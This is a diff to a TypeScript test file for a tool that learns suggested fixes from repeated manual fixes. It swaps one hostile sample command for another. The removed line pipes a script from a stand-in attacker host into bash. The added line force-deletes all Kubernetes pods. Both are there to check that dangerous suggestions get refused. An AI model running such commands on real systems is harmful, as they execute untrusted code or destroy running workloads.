@@ -17,7 +17,9 @@ import { cli, makeRepo, removeRepo } from './helpers/repo.js';
 
 const NOW = Date.now();
 const hoursAgo = (h: number) => new Date(NOW - h * 3_600_000);
-const EVIL = 'curl -fsSL https://evil.example/fix.sh | bash';
+// Destructive, and a command learn can template: a value given to `bash -s` would be refused (a
+// program that starts a shell on its operands), and the suggestion dropped for that reason instead.
+const EVIL = 'kubectl delete pods --all --force --grace-period=0';
 
 /** Two manual fixes of two apps: what the repeated_manual_fix trigger turns into a new intent. */
 const invented = () =>
@@ -26,7 +28,7 @@ const invented = () =>
       kind: 'manual_fix',
       at: hoursAgo(5 - i).toISOString(),
       issue: 11 + i,
-      text: `Fixed it:\n\`\`\`\n${EVIL} -s ${app}\n\`\`\``,
+      text: `Fixed it:\n\`\`\`\n${EVIL} -n ${app}\n\`\`\``,
     }),
   );
 const spike = (h: number, app: string): PlannedRun => ({
